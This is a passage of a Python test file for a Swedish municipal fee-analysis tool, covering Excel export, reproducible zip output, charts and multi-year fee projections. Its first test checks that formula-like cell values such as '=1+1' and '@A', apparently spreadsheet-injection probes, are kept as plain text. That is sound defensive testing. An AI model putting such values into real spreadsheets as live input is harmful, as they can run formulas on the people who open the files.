    values = {c.value for c in texts}
    assert {
        evil,
        "=1+1",
        "@A",
        "-alt",
        "Scenario -alt: avgift per kommun och post 2025, kr",
    } <= values
    assert wb["-alt"]["A2"].value == evil


def test_workbook_is_byte_identical_once_the_renderer_stamps_it(tmp_path):
    import time

    first, second = tmp_path / "a.xlsx", tmp_path / "b.xlsx"
    first.write_bytes(xlsx.workbook(FEES, _scenarios()[:1]))
    time.sleep(2.1)  # zip entry times have a two-second resolution
    second.write_bytes(xlsx.workbook(FEES, _scenarios()[:1]))
    from kuanalysis.render.export import reproducible_zip

    moment = dt.datetime(2024, 10, 25, 8, 0)
    for f in (first, second):
        f.write_bytes(reproducible_zip(f.read_bytes(), moment))
    assert first.read_bytes() == second.read_bytes()
    assert load_workbook(second).properties.created.year == 2024


# ---------------------------------------------------------------------------------------
# Charts
# ---------------------------------------------------------------------------------------
def test_panels_barh_one_panel_each_own_scale():
    axes = charts.panels_barh(
        ["X", "Y"],
        {"liten": [0.01, -0.02], "stor": [10, np.nan]},
        title="Prov (procentenheter)",
        unit="",
        decimals=2,
    )
    assert len(axes) == 2
    assert axes[0].get_title(loc="left") == "liten"
    assert axes[1].get_xlim()[1] > 5 > axes[0].get_xlim()[1]
    assert axes[0].figure._suptitle.get_text() == "Prov (procentenheter)"
    assert axes[0].xaxis.get_major_formatter()(-0.02) == "\u22120,02"


def test_lines_draws_series_and_zero_line():
    ax = charts.lines(
        [2025, 2026], {"a": [1_500_000, -7_500_000], "b": [1, 1]}, title="Saldo (kr)", unit="kr"
    )
    assert len(ax.get_lines()) == 3  # two series and y = 0
    assert ax.get_lines()[0].get_marker() != ax.get_lines()[1].get_marker()
    assert ax.yaxis.get_major_formatter()(-7_500_000) == "\u22127\u00a0500\u00a0000\u00a0kr"


# ---------------------------------------------------------------------------------------
# One municipality's sheet
# ---------------------------------------------------------------------------------------
def test_kommun_fees_marks_posts_not_invoiced():
    k = feetables.kommun_fees(FEES, "0001")
    assert list(k.columns) == ["forslag-2025", "alt"]
    assert list(k.index) == ["A", "B", "Fakturerat totalt"]
    assert k.loc["A"].tolist() == [60, 50]
    assert k.loc["B"].tolist() == ["faktureras ej", 7]
    assert k.loc["Fakturerat totalt"].tolist() == [60, 57]
    with pytest.raises(ValueError, match="finns inte"):
        feetables.kommun_fees(FEES, "0680")


def test_a_check_that_could_not_run_is_said(report, monkeypatch):
    from kuanalysis.checks import runner

    def broken(table, **context):
        raise RuntimeError("trasig")

    monkeypatch.setitem(runner.CHECKS, "fee_matrix", broken)
    shown = feesections.findings_list(report)
    # no finding, and no silent zero: the box names the check and the error
    assert cells(shown) == []
    assert "Följande kontroller kunde inte köras" in shown and "RuntimeError: trasig" in shown


# ---------------------------------------------------------------------------------------
# The years ahead (the shipped three-year alternative, worked out from the printed totals)
# ---------------------------------------------------------------------------------------
def _half_up(x: float) -> int:
    return int(np.floor(x + 0.5))


def test_years_ahead_of_the_three_year_alternative():
    r = feedata.FeeReport.load(forslag=FORSLAG_2025)
    by_name = {s.name: s for s in r.scenarios}
    # tre-ar-2-procent: forslag-2025 for 2025-2027, every amount 2 % up a year (A17)
    assert feetables.assumptions(by_name["tre-ar-2-procent"]) == (
        "Utgår från forslag-2025. Räknar åren 2025–2027. Alla belopp räknas upp med 2 % per "
        "år. Tas från balanskontot: Grundfinansiering Social välfärd. Balanskontot är "
        "20,5\u00a0mnkr vid årets början 2025. Uttag 2025: 10,0\u00a0mnkr. Ingen ränta."
    )
    assert "Beloppen är desamma varje år (ingen uppräkning)." in feetables.assumptions(
        by_name["forslag-2025"]
    )
    # invoiced: the 13 posts the Summa column adds up, printed totals (Summa row of the
    # proposal), each year the year before's amount x 1.02 rounded to whole kronor
    printed = [285_571, 3_168_492, 5_283_065, 9_000_000, 1_583_550, 1_571_166, 2_702_752]
    printed += [535_325, 1_144_526, 219_801, 451_966, 1_050_979, 904_998]
    assert sum(printed) == 27_902_191  # the printed grand total
    y2026 = [_half_up(t * 1.02) for t in printed]
    y2027 = [_half_up(t * 1.02) for t in y2026]
    years = feetables.yearly_invoiced(r.fees_years)
    assert years.loc["tre-ar-2-procent", 2025] == 27_902_191
    assert years.loc["tre-ar-2-procent", 2026] == sum(y2026)
    assert years.loc["tre-ar-2-procent", 2027] == sum(y2027)
    assert np.isnan(years.loc["tre-ar-2-procent", 2028])  # not in the alternative
    assert years.loc["forslag-2025", [2025, 2026, 2027, 2028]].tolist() == [27_902_191] * 4
    shown = str(feesections.years_table(r))
    assert 'id="per-ar"' in shown and fmt.kr(sum(y2027)) in shown
    text = str(feesections.assumptions_table(r))
    assert 'id="antaganden"' in text and "Räknar åren 2025–2027." in text
